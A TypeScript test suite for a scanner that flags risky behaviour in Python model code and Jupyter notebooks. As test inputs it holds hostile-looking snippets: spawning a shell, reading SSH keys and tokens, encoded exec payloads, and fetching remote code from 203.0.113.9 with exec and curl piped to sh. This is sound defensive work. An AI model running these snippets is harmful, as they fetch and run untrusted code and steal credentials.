// Static Python and notebook analysis: each capability, name resolution through aliases, when code
// runs (import time vs called), obfuscated payloads, notebooks' shell escapes, parse gaps and limits.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { BufferSource } from '../../src/formats/source.ts';
import { scanSource } from '../../src/scan/walker.ts';
import { analyzePython, gradePython, notebookCode, type PyBehaviour } from '../../src/scan/python/index.ts';
import { FIXTURES, scanOne } from '../helpers/scan.ts';

function behaviours(src: string): PyBehaviour[] {
  return analyzePython(src).behaviours;
}

/** "category name when" for each behaviour, for compact assertions. */
function summary(src: string): string[] {
  return behaviours(src).map((b) => `${b.category} ${b.name} ${b.when}`);
}

async function scanPy(src: string, name = 'modeling_x.py') {
  const rows = await scanSource(new BufferSource(Buffer.from(src)), name, { hash: false });
  return rows[0];
}

test('each category of capability is recognised', () => {
  const cases: Array<[string, string]> = [
    ['import os\nos.system("id")', 'process os.system'],
    ['import subprocess\nsubprocess.Popen(["sh"])', 'process subprocess.Popen'],
    ['import pty\npty.spawn("/bin/sh")', 'process pty.spawn'],
    ['import socket\ns = socket.socket()', 'network socket.socket'],
    ['import urllib.request\nurllib.request.urlopen("http://x")', 'network urllib.request.urlopen'],
    ['import requests\nrequests.post("http://x", data=b"")', 'network requests.post'],
    ['from http.client import HTTPSConnection\nHTTPSConnection("x")', 'network http.client.HTTPSConnection'],
    ['import shutil\nshutil.rmtree("/data")', 'file shutil.rmtree'],
    ['open("/etc/cron.d/x", "a")', 'file open'],
    ['from pathlib import Path\nPath("x").write_text("y")', 'file .write_text()'],
    ['exec("print(1)")', 'dynamic builtins.exec'],
    ['import importlib\nimportlib.import_module(name)', 'dynamic importlib.import_module'],
    ['import runpy\nrunpy.run_path("x.py")', 'dynamic runpy.run_path'],
    ['import marshal\nmarshal.loads(data)', 'dynamic marshal.loads'],
    ['import types\ntypes.FunctionType(code, {})', 'dynamic types.FunctionType'],
    ['import yaml\nyaml.load(s, Loader=yaml.Loader)', 'dynamic yaml.load'],
    ['import ctypes\nctypes.CDLL("libx.so")', 'native ctypes.CDLL'],
    ['import cffi\nffi = cffi.FFI()\nffi.dlopen("libx.so")', 'native .dlopen()'],
    ['import torch\ntorch.ops.load_library("x.so")', 'native torch.ops.load_library'],
    ['import torch\ntorch.load("m.bin")', 'loader torch.load'],
    ['import sys\nsys.modules["torch"] = fake', 'hijack sys.modules[…] ='],
    ['import sys\nsys.meta_path.insert(0, Finder())', 'hijack sys.meta_path.insert'],
    ['import builtins\nsetattr(builtins, "open", evil)', 'hijack builtins.setattr'],
    ['__builtins__["print"] = evil', 'hijack builtins.print ='],
    ['import os\ntok = os.environ["HF_TOKEN"]', 'env os.environ["HF_TOKEN"]'],
    ['import os\nkey = os.getenv("AWS_SECRET_ACCESS_KEY")', 'env os.environ["AWS_SECRET_ACCESS_KEY"]'],
    ['import os, json\njson.dumps(dict(os.environ))', 'env os.environ'],
    ['p = os.path.expanduser("~/.ssh/id_rsa")', 'credentials ~/.ssh/id_rsa'],
  ];
  for (const [src, want] of cases) assert.deepEqual(summary(src).map((s) => s.replace(/ import$/, '')), [want], src);
});

test('harmless look-alikes are not flagged', () => {
  for (const src of [
    'model.eval()',
    'import re\nre.compile("x")',
    'import torch\ntorch.compile(model)',
    'open("vocab.txt")',
    'open(path, "rb")',
    'import os\nos.environ["TOKENIZERS_PARALLELISM"] = "false"',
    'import os\nos.environ.get("CUDA_VISIBLE_DEVICES")',
    'import torch\ntorch.load(f, weights_only=True)',
    'import numpy as np\nnp.load("a.npy")',
    'import yaml\nyaml.load(s, Loader=yaml.SafeLoader)',
    'import subprocess\nraise subprocess.CalledProcessError(1, "x")',
    'commands = []\ncommands.append("x")',
    'def f(socket):\n    socket.send(b"x")',
    'import importlib.util\nimportlib.util.find_spec("flash_attn")',
    'import base64\nline = base64.b64encode(k).decode("utf8")',
    '"""Reads ~/.ssh/id_rsa? No: this docstring only mentions it."""',
  ]) {
    assert.deepEqual(summary(src), [], src);
  }
});

test('aliases, from-imports, getattr, __import__, star imports and assignments are resolved', () => {
  const cases: Array<[string, string]> = [
    ['import subprocess as sp\nsp.run(["id"])', 'subprocess.run'],
    ['from os import system as s\ns("id")', 'os.system'],
    ['from subprocess import check_output\ncheck_output("id")', 'subprocess.check_output'],
    ['import os\ngetattr(os, "system")("id")', 'os.system'],
    ['__import__("os").system("id")', 'os.system'],
    ['import importlib\nimportlib.import_module("subprocess").call("id")', 'subprocess.call'],
    ['from subprocess import *\nPopen("id")', 'subprocess.Popen'],
    ['import os\nrun = os.system\nrun("id")', 'os.system'],
    ['import posix\nposix.system("id")', 'os.system'],
    ['import builtins\nbuiltins.__dict__["exec"]("x")', 'builtins.exec'],
    ['vars(__builtins__)["eval"]("x")', 'builtins.eval'],
    ['globals()["__builtins__"].exec("x")', 'builtins.exec'],
    ['import io\nio.open("x", "w")', 'open'],
  ];
  for (const [src, want] of cases) {
    const names = behaviours(src).map((b) => b.name);
    assert.ok(names.includes(want), `${src}: got ${names.join(', ')}`);
  }
  // A computed attribute of a sensitive module is dynamic code.
  assert.deepEqual(summary('import os\ngetattr(os, name)("id")'), ['dynamic getattr import']);
});

test('import time: top level, class bodies, decorators, default arguments, functions called from there', () => {
  const src = [
    'import os', //                                    1
    'os.system("top")', //                             2  import
    'class A:', //                                     3
    '    x = os.system("class body")', //              4  import
    '    def m(self):', //                             5
    '        os.system("method")', //                  6  function
    '@register(os.system("decorator"))', //            7  import
    'def f(a=os.system("default")):', //               8  import
    '    os.system("body")', //                        9  function
    'def setup():', //                                10
    '    helper()', //                                11
    'def helper():', //                               12
    '    os.system("reached")', //                    13  import via setup()
    'setup()', //                                     14
    'class B:', //                                    15
    '    def __init__(self):', //                     16
    '        os.system("init")', //                   17  import via B()
    'B()', //                                         18
    'g = lambda: os.system("lambda")', //             19  function
    'if __name__ == "__main__":', //                  20
    '    os.system("main")', //                       21  main
    'else:', //                                       22
    '    os.system("else")', //                       23  import
  ].join('\n');
  const got = behaviours(src).map((b) => `${b.line} ${b.when}`);
  assert.deepEqual(got, ['2 import', '4 import', '6 function', '7 import', '8 import', '9 function', '13 import', '17 import', '19 function', '21 main', '23 import']);
  const via = behaviours(src).find((b) => b.line === 13)!;
  assert.equal(via.fn, 'helper');
  assert.match(via.via!, /helper\(\) is called from top-level code at line 14/);
});

test('severity follows capability and time: critical at import, high/medium inside functions', () => {
  const grade = (src: string) => gradePython(analyzePython(src)).map((f) => `${f.ruleId} ${f.severity}`);
  assert.deepEqual(grade('import os\nos.system("x")'), ['MG-PY-001 critical']);
  assert.deepEqual(grade('import os\ndef f():\n    os.system("x")'), ['MG-PY-002 high']);
  assert.deepEqual(grade('import requests\nrequests.get("http://x")'), ['MG-PY-001 critical', 'MG-PY-006 low']);
  assert.deepEqual(grade('import requests\ndef f():\n    requests.get("http://x")'), ['MG-PY-003 medium', 'MG-PY-006 low']);
  assert.deepEqual(grade('open("x", "w")'), ['MG-PY-003 high']);
  assert.deepEqual(grade('def save():\n    open("x", "w")'), ['MG-PY-003 medium']);
  assert.deepEqual(grade('import os\nt = os.environ["HF_TOKEN"]'), ['MG-PY-005 high']);
  assert.deepEqual(grade('import os\ndef f():\n    return os.environ["HF_TOKEN"]'), ['MG-PY-005 medium']);
  assert.deepEqual(grade('import subprocess'), ['MG-PY-006 low']);
  assert.deepEqual(grade('import os\nif __name__ == "__main__":\n    os.system("x")'), ['MG-PY-002 high']);
  // Repeated calls are one finding listing every line.
  const many = gradePython(analyzePython('import os\nos.system("a")\nos.system("b")\nos.system("c")'));
  assert.equal(many.length, 1);
  assert.equal(many[0].evidence.lines, '2, 3, 4');
  assert.equal(many[0].evidence.count, 3);
  assert.equal(many[0].evidence.importTime, true);
});

test('obfuscated and downloaded payloads are MG-PY-004 critical, even inside functions', () => {
  const cases = [
    'import base64\nexec(base64.b64decode("aW1wb3J0IG9zOyBvcy5zeXN0ZW0oImlkIik="))',
    'import zlib, base64\nblob = "eJzLSM3JyVcozy/KSQEAGgQEXQ=="\ndata = zlib.decompress(base64.b64decode(blob))\ncode = data.decode()\nexec(code)',
    'import codecs\neval(codecs.decode("cevag(1)", "rot13"))',
    'def run():\n    import requests\n    exec(requests.get("http://203.0.113.9/p.py").text)',
    'import marshal, types, base64\ntypes.FunctionType(marshal.loads(base64.b64decode("YWJjZGVmZ2hpams=")), globals())()',
    'exec("".join(chr(c) for c in [111, 115]))',
    'import pickle, base64\npickle.loads(base64.b64decode("gASVIAAAAAAAAACMBXBvc2l4lA=="))',
  ];
  for (const src of cases) {
    const f = gradePython(analyzePython(src)).filter((x) => x.ruleId === 'MG-PY-004');
    assert.equal(f.length >= 1, true, src);
    assert.equal(f[0].severity, 'critical');
  }
  // Decoding data read at run time (a vocabulary file) and unpickling it is not hiding code.
  const runtime = 'import base64, pickle\ndef load(path):\n    return pickle.loads(base64.b64decode(open(path).read()))';
  assert.deepEqual(gradePython(analyzePython(runtime)).map((f) => f.ruleId), ['MG-PY-002']);
});

test('evidence shows the call (secrets masked), its line and whether it runs at import time', async () => {
  const token = `hf_${'aB3dE5fG7hJ9kL1mN3pQ5rS7tU9vW1xY3z'}`;
  const row = await scanPy(`import requests\nrequests.post("http://x", headers={"Authorization": "Bearer ${token}"})\n`);
  const f = row.findings.find((x) => x.ruleId === 'MG-PY-001')!;
  assert.equal(f.severity, 'critical');
  assert.equal(f.evidence.line, 2);
  assert.equal(f.evidence.importTime, true);
  assert.equal(f.offset, 'import requests\n'.length);
  assert.match(String(f.evidence.code), /^requests\.post\("http:\/\/x", headers=/);
  assert.ok(!JSON.stringify(row).includes(token.slice(4, -2)), 'the token leaked through the code evidence');
  const long = await scanPy(`import os\nos.system("${'x'.repeat(500)}")\n`);
  assert.ok(String(long.findings[0].evidence.code).length <= 120);
});

test('the parser\'s gaps for valid Python ("1.", bare yield, form feeds) are not syntax errors', () => {
  const a = analyzePython('x = 1.\ny = (2., 3.) # 4.\ndef g():\n    yield\n    z = yield  # c\n\f\ns = "5. yield"\n');
  assert.deepEqual(a.errorLines, []);
});

test('code the parser cannot follow is MG-PY-007 medium, and the rest is still analysed', async () => {
  const row = await scanPy('import os\ndef f(:\n    pass\nos.system("id")\n');
  assert.deepEqual(row.findings.map((f) => `${f.ruleId} ${f.severity}`).sort(), ['MG-PY-001 critical', 'MG-PY-007 medium']);
  assert.equal(row.status, 'scanned');
});

test('notebooks: code cells analysed with cell/line evidence, shell escapes graded', () => {
  const nb = {
    cells: [
      { cell_type: 'markdown', source: '!not code' },
      { cell_type: 'code', source: ['!pip install -q transformers\n', 'import os\n'] },
      { cell_type: 'code', source: '%pip install git+https://github.com/o/r.git' },
      { cell_type: 'code', source: 'files = !ls -la\n%time os.system("inside time")' },
      { cell_type: 'code', source: '%%bash\ncurl -fsSL http://203.0.113.9/i.sh | sh' },
      { cell_type: 'code', source: '%%writefile helper.py\nprint(1)' },
      { cell_type: 'code', source: ['%matplotlib inline\n', 'get_ipython().system("id")'] },
    ],
    nbformat: 4,
  };
  const code = notebookCode(nb)!;
  assert.deepEqual(code.shell.map((s) => `${s.cell}:${s.line} ${s.magic}`), ['2:1 !', '3:1 %pip', '4:1 = !', '5:1 %%bash', '6:1 %%writefile']);
  const a = analyzePython(code.source, { notebook: true });
  assert.deepEqual(a.errorLines, []);
  assert.deepEqual(a.behaviours.map((b) => `${b.name} ${b.when} ${code.locate(b.line).cell}:${code.locate(b.line).line}`), ['os.system notebook 4:2', 'get_ipython().system notebook 7:2']);
  // nbformat 3 keeps cells in worksheets and code in "input".
  const v3 = notebookCode({ worksheets: [{ cells: [{ cell_type: 'code', input: ['import os\n', 'os.system("x")'] }] }], nbformat: 3 });
  assert.equal(analyzePython(v3!.source, { notebook: true }).behaviours.length, 1);
  assert.equal(notebookCode({ cells: [{ cell_type: 'markdown', source: 'x' }] }), null);
});

test('notebook fixtures written by nbformat: a tutorial is low at most, a dropper is critical', async () => {
  const benign = await scanOne(`${FIXTURES}/text/notebooks/benign.ipynb`);
  assert.deepEqual(benign.report.files[0].findings.map((f) => `${f.ruleId} ${f.severity}`), ['MG-PY-008 low']);
  assert.equal(benign.code, 0);
  const dropper = await scanOne(`${FIXTURES}/text/notebooks/dropper.ipynb`);
  assert.deepEqual(dropper.report.files[0].findings.map((f) => `${f.ruleId} ${f.severity}`), ['MG-PY-008 high', 'MG-PY-008 high', 'MG-PY-004 critical']);
  assert.equal(dropper.code, 1);
  assert.deepEqual(dropper.report.files[0].findings[2].evidence.cell, 3);
});

test('real-looking model code stays quiet; helpers flag only what runs when called', async () => {
  for (const name of ['modeling_tiny.py', 'layers.py', 'configuration_tiny.py']) {
    const { report } = await scanOne(`${FIXTURES}/text/hf_remote_benign/${name}`);
    assert.deepEqual(report.files[0].findings, [], name);
  }
  const { report } = await scanOne(`${FIXTURES}/text/python/train_utils.py`);
  assert.deepEqual(report.files[0].findings.map((f) => `${f.ruleId} ${f.severity}`), ['MG-PY-002 high', 'MG-PY-003 medium', 'MG-PY-006 low']);
});

test('hostile sources end quickly: deep nesting and oversized files fail closed', async () => {
  let t0 = Date.now();
  const deep = await scanPy(`x = ${'('.repeat(50_000)}1${')'.repeat(50_000)}\nimport os\nos.system("id")\n`);
  assert.equal(deep.status, 'error');
  assert.ok(deep.findings.some((f) => f.ruleId === 'MG-PY-007' && f.evidence.limit === 'nesting'), JSON.stringify(deep.findings));
  assert.ok(Date.now() - t0 < 15_000, `${Date.now() - t0} ms`); // generous: CI shares 2 cores; a blow-up takes minutes

  t0 = Date.now();
  const big = await scanPy(`# ${'x'.repeat(9 << 20)}\n`);
  assert.equal(big.status, 'error');
  assert.ok(big.findings.some((f) => f.ruleId === 'MG-PY-007' && f.evidence.limit === 'python-size'));
  assert.ok(Date.now() - t0 < 15_000);

  // Calls nested deeper than the resolver follows are reported as not analysed, not silently passed.
  const chain = `import os\n${'getattr('.repeat(40)}os${', "x")'.repeat(40)}("id")\n`;
  const a = analyzePython(chain);
  assert.equal(a.truncated, true);
  assert.ok(gradePython(a).some((f) => f.ruleId === 'MG-PY-007'));

  // Many small statements: linear.
  t0 = Date.now();
  const many = analyzePython('import os\n' + 'x = os.path.join("a", "b")\n'.repeat(100_000));
  assert.deepEqual(many.behaviours, []);
  assert.ok(Date.now() - t0 < 30_000, `${Date.now() - t0} ms`); // linear: ~2 s alone; quadratic would take minutes
});

test('a syntax error in a notebook cell does not hide the other cells', async () => {
  const nb = JSON.stringify({ cells: [{ cell_type: 'code', source: 'def broken(:\n' }, { cell_type: 'code', source: 'import os\nos.system("x")' }], nbformat: 4 });
  const rows = await scanSource(new BufferSource(Buffer.from(nb)), 'x.ipynb', { hash: false });
  const ids = rows[0].findings.map((f) => `${f.ruleId} ${f.severity}`);
  assert.ok(ids.includes('MG-PY-002 high'), ids.join());
  assert.ok(ids.includes('MG-PY-007 medium'), ids.join());
});

test('a truncated notebook fails closed (its code could not be analysed)', async () => {
  const nb = JSON.stringify({ cells: [{ cell_type: 'code', source: 'import os\nos.system("x")' }], nbformat: 4 });
  const rows = await scanSource(new BufferSource(Buffer.from(nb.slice(0, nb.length - 20))), 'x.ipynb', { hash: false });
  assert.equal(rows[0].status, 'error');
  assert.deepEqual(rows[0].findings.map((f) => f.ruleId), ['MG-PY-007']);
});

test('a file with thousands of flagged functions gives a bounded number of findings', () => {
  const src = 'import os\n' + Array.from({ length: 3000 }, (_, i) => `def f${i}(p):\n    os.remove(p)\n`).join('');
  const findings = gradePython(analyzePython(src));
  assert.ok(findings.length <= 101, String(findings.length));
  const removal = findings.find((f) => f.evidence.call === 'os.remove')!;
  assert.equal(removal.evidence.count, 3000);
  assert.equal(removal.evidence.function, undefined);
});

test('shell commands shown as evidence have their secrets masked', async () => {
  const token = 'hf_Zq8LmN2pR4sT6vX8zB1dF3hJ5kM7nP9qRt';
  const nb = JSON.stringify({ cells: [{ cell_type: 'code', source: `!huggingface-cli login --token ${token}` }], nbformat: 4 });
  const rows = await scanSource(new BufferSource(Buffer.from(nb)), 'login.ipynb', { hash: false });
  const shell = rows[0].findings.find((f) => f.ruleId === 'MG-PY-008')!;
  assert.match(String(shell.evidence.command), /--token hf_Z…Rt$/);
  assert.ok(rows[0].findings.some((f) => f.ruleId === 'MG-SEC-001'));
  assert.ok(!JSON.stringify(rows).includes(token.slice(4, -2)));
});

test('import-time propagation over many functions and calls is fast', () => {
  const n = 5000;
  const src = `import os\n${Array.from({ length: n }, (_, i) => `def f${i}():\n    f${i + 1}()\n    g()\n`).join('')}def f${n}():\n    os.system("deep")\ndef g():\n    pass\nf0()\n`;
  const t0 = Date.now();
  const [b] = analyzePython(src).behaviours;
  assert.equal(b.when, 'import');
  assert.equal(b.fn, `f${n}`);
  assert.ok(Date.now() - t0 < 15_000, `${Date.now() - t0} ms`); // generous: CI shares 2 cores; a blow-up takes minutes
});
